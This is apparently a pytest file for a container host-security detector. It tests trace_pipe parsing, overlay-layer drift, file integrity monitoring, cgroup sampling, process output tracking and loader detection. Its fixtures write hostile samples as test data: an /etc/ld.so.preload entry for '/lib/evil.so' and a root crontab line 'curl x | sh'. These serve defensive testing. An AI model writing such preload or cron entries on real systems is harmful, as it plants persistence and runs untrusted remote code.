"""Pure parts of the host sensors: trace_pipe parsing, image layers, FIM drift,
cgroup sampling and the detectors' clock."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from detectors.clock import DetectorClock, parse_moment
from detectors.sensors.cgroup_resources import CgroupResourcesSensor, _Tracked
from detectors.sensors.containers import ContainerInfo, _epoch, info_from_inspect
from detectors.sensors.fim import FimSensor, Watch
from detectors.sensors.procfs import in_layers
from detectors.sensors.tracefs_exec import parse_line


def test_trace_pipe_line_is_parsed():
    line = (b"           <...>-17643   [001] .....   867.562652: sched_process_exec: "
            b"filename=/usr/bin/sleep pid=17643 old_pid=17643")
    assert parse_line(line) == ("/usr/bin/sleep", 17643)
    assert parse_line(b"CPU:1 [LOST 12 EVENTS]") is None


def _info(tmp_path: Path) -> ContainerInfo:
    upper, lower = tmp_path / "upper", tmp_path / "lower"
    for d in (upper / "tmp", upper / "usr/sbin", lower / "usr/bin"):
        d.mkdir(parents=True)
    (upper / "tmp/x").write_bytes(b"\x7fELF dropped")
    (upper / "usr/sbin/docker-init").write_bytes(b"")  # the engine's empty mount-point stub
    (lower / "usr/bin/sleep").write_bytes(b"\x7fELF image")
    return ContainerInfo(id="c" * 64, name="app", image="img", image_id="", upper_dir=str(upper),
                         lower_dirs=(str(lower),))


def test_executable_in_changes_not_in_image(tmp_path: Path):
    info = _info(tmp_path)
    assert in_layers(info, "/tmp/x") == (True, False)
    assert in_layers(info, "/usr/bin/sleep") == (False, True)
    assert in_layers(info, "/usr/sbin/docker-init", exe_size=700_000) == (False, False)  # a stub is not a drop
    assert in_layers(info, "/tmp/x", exe_size=3) == (False, False)  # not the file that ran


def test_inspect_gives_overlay_dirs_and_start_time():
    info = info_from_inspect({
        "Id": "a" * 64, "Name": "/web-1", "Image": "sha256:1", "Config": {"Image": "base", "Labels": {
            "app": "web", "io.stowaway.run": "x"}},
        "State": {"Pid": 42, "StartedAt": "2026-11-29T10:08:04.123456789Z"},
        "GraphDriver": {"Data": {"UpperDir": "/u", "LowerDir": "/l1:/l2", "MergedDir": "/m"}},
        "Mounts": [{"Type": "bind", "Source": "/srv", "Destination": "/host", "RW": True}],
    })
    assert info.labels == {"app": "web"}  # bookkeeping stripped
    assert (info.upper_dir, info.lower_dirs, info.merged_dir) == ("/u", ("/l1", "/l2"), "/m")
    assert info.writable_mounts == (("/srv", "/host"),)
    assert info.started_at == pytest.approx(_epoch("2026-11-29T10:08:04.123456Z"))


def test_fim_reports_changes_made_before_the_watch(tmp_path: Path):
    root = tmp_path / "root"
    (root / "etc").mkdir(parents=True)
    (root / "etc/passwd").write_text("root:x:0:0::/root:/bin/sh\n")
    old = 1_000_000.0
    os.utime(root / "etc/passwd", (old, old))
    (root / "etc/ld.so.preload").write_text("/lib/evil.so\n")  # written after the "start"
    sent: list[dict] = []
    sensor = FimSensor()
    sensor._emit = sent.append
    sensor.open()  # no thread: the watches are added by hand
    try:
        for name in ("passwd", "ld.so.preload"):
            sensor.watch(Watch(str(root / "etc" / name), root=str(root), changed_since=old + 10))
    finally:
        sensor.close()
    assert [e["file.path_in_container"] for e in sent] == ["/etc/ld.so.preload"]


def test_cgroup_sample_is_cores_over_the_interval(tmp_path: Path):
    cpu, mem = tmp_path / "cpuacct.usage", tmp_path / "memory.usage_in_bytes"
    cpu.write_text("1000000000\n")
    mem.write_text("52428800\n")
    sensor = CgroupResourcesSensor(directory=None)  # type: ignore[arg-type]
    info = ContainerInfo(id="c" * 64, name="batch", image="base", image_id="")
    tracked = _Tracked(info, os.open(cpu, os.O_RDONLY), os.open(mem, os.O_RDONLY), -1, -1, v2=False)
    sensor._tracked[info.id] = tracked
    out: list[dict] = []
    sensor.sample(out.append)
    assert out == []  # the first read only sets the starting point
    cpu.write_text("1500000000\n")  # half a second of CPU since
    tracked.last_at -= 1.0  # ... over one second
    sensor.sample(out.append)
    assert out[0]["container.cpu.cores"] == pytest.approx(0.5, rel=0.05)
    assert out[0]["container.memory.usage_bytes"] == 52428800
    sensor.stop()


def test_clock_runs_from_the_simulated_moment():
    clock = DetectorClock()
    with clock.simulated("2026-11-30T09:05:00Z"):
        assert abs(clock.now() - parse_moment("2026-11-30T09:05:00Z")) < 5
    assert abs(clock.now() - parse_moment(clock.now())) < 1e-6 and clock.translate(5.0) == 5.0


def test_only_the_process_holding_the_containers_output_counts(tmp_path):
    """A fake /proc (a unit test's boundary): docker-init runs `sh` (the entrypoint), which starts a
    quiet build step with its output on /dev/null; an orphan adopted later by the init discards too."""
    from detectors.sensors.process_stdio import ProcessStdioSensor

    def proc(pid: int, ppid: int, comm: str, start: int, out: str) -> None:
        base = tmp_path / str(pid)
        (base / "fd").mkdir(parents=True)
        fields = ["S", str(ppid)] + ["0"] * 17 + [str(start)]
        (base / "stat").write_text(f"{pid} ({comm}) " + " ".join(fields) + "\n")
        (base / "cmdline").write_bytes(comm.encode() + b"\0")
        for fd in (1, 2):
            (base / "fd" / str(fd)).symlink_to(out)

    (tmp_path / "uptime").write_text("100000.0 1.0\n")
    proc(10, 1, "docker-init", 100, "pipe:[1]")
    proc(11, 10, "sh", 101, "pipe:[1]")
    proc(12, 11, "python3", 200, "/dev/null")  # the quiet build step
    proc(13, 10, "kworker", 300, "/dev/null")  # adopted by the init later
    seen = []
    sensor = ProcessStdioSensor(proc=str(tmp_path))
    sensor._emit = seen.append
    sensor._inspect("c1", 10)
    assert {e["process.pid"]: e["process.io.container_output"] for e in seen} == {12: False, 13: False}
    (tmp_path / "11" / "fd" / "1").unlink()
    (tmp_path / "11" / "fd" / "1").symlink_to("/dev/null")
    (tmp_path / "11" / "fd" / "2").unlink()
    (tmp_path / "11" / "fd" / "2").symlink_to("/dev/null")
    sensor._inspect("c1", 10)
    assert [e["process.pid"] for e in seen if e["process.io.container_output"]] == [11]
    assert [e["process.io.log_stream_kept"] for e in seen if e["process.pid"] == 11] == [False]  # exec >/dev/null
    # dash running one command redirected: its own fds point at /dev/null, the log pipe is kept on fd 10.
    (tmp_path / "11" / "fd" / "10").symlink_to("pipe:[1]")
    sensor._reported.clear()
    sensor._inspect("c1", 10)
    assert [e["process.io.log_stream_kept"] for e in seen if e["process.pid"] == 11][-1] is True


def test_output_kinds_are_judged_against_the_pipes_the_shim_holds(tmp_path):
    """A fake /proc (a unit test's boundary): the shim (pid 5) holds pipe:[1] and pipe:[2]; the
    container's entrypoint (pid 10, no init) sends its output to each place a payload might."""
    from detectors.sensors.process_stdio import log_streams, target_kind

    for pid, links in ((5, {"13": "pipe:[1]", "15": "pipe:[2]", "6": "pipe:[9]"}), (10, {"1": "pipe:[1]"})):
        (tmp_path / str(pid) / "fd").mkdir(parents=True)
        for fd, target in links.items():
            (tmp_path / str(pid) / "fd" / fd).symlink_to(target)
    (tmp_path / "10" / "mountinfo").write_text(
        "1 0 0:50 / / rw - overlay overlay rw\n"
        "2 1 0:51 / /dev/shm rw - tmpfs shm rw\n"
        "3 1 8:1 /var/lib/docker/volumes/v/_data /data rw - ext4 /dev/sda1 rw\n")
    streams = log_streams(10, 5, init=False, proc=str(tmp_path))
    assert {"pipe:[1]", "pipe:[2]"} <= streams

    def kind(target: str) -> str:
        return target_kind(10, target, streams, str(tmp_path))

    assert [kind(t) for t in ("pipe:[1]", "/dev/pts/0", "/dev/null", "", "pipe:[77]", "socket:[3]")] == \
        ["log", "log", "devnull", "closed", "pipe", "socket"]
    assert [kind(t) for t in ("/tmp/.worker.log", "/dev/shm/x", "/data/app.log", "/data2/x (deleted)")] == \
        ["own-file", "own-file", "mounted-file", "own-file"]
    # Without the shim's fds, a pipe may be the log: never called diverted.
    assert target_kind(10, "pipe:[77]", frozenset(), str(tmp_path)) == "log"


def test_a_watched_directory_made_after_the_watch_is_adopted(tmp_path: Path):
    """Real inotify on real files: /var/spool/cron does not exist when the container starts; the
    payload runs `mkdir -p /var/spool/cron/crontabs` and writes root's crontab there. Before the fix
    the directory's creation was ignored and the crontab never seen."""
    import threading
    import time

    root = tmp_path / "merged"
    (root / "var/spool").mkdir(parents=True)
    sent: list[dict] = []
    sensor = FimSensor()
    sensor._emit = sent.append
    sensor.open()
    sensor.watch(Watch(str(root / "var/spool/cron"), root=str(root), recursive=True, changed_since=time.time() - 1))
    runner = threading.Thread(target=sensor.run, daemon=True)
    runner.start()
    try:
        (root / "var/spool/cron/crontabs").mkdir(parents=True)
        (root / "var/spool/cron/crontabs/root").write_text("* * * * * curl x | sh\n")
        deadline = time.monotonic() + 5
        while time.monotonic() < deadline and not any(
                e.get("file.path_in_container") == "/var/spool/cron/crontabs/root" for e in sent):
            time.sleep(0.05)
    finally:
        sensor._stop.set()
        runner.join(timeout=5)
        sensor.close()
    assert "/var/spool/cron/crontabs/root" in {e.get("file.path_in_container") for e in sent}


@pytest.mark.parametrize(("executable", "args", "environ", "loaded"), [
    ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", ["/lib64/ld-linux-x86-64.so.2", "/tmp/x", "3"], b"", "/tmp/x"),
    ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", ["ld.so", "./syncd"], b"", "/data/bin/syncd"),
    ("/lib/ld-musl-x86_64.so.1", ["ld", "--preload", "/a.so", "/opt/p"], b"", "/opt/p"),
    ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", ["ld.so", "--verify", "/tmp/x"], b"", None),  # ldd checks
    ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", ["ld.so", "/tmp/x"], b"A=1\0LD_TRACE_LOADED_OBJECTS=1\0", None),
    ("/usr/bin/python3", ["python3", "/tmp/x"], b"", None),  # an interpreter is not the loader
])
def test_the_program_a_directly_run_loader_runs(executable, args, environ, loaded):
    from detectors.sensors.procfs import loaded_program

    assert loaded_program(executable, args, "/data/bin", environ) == loaded
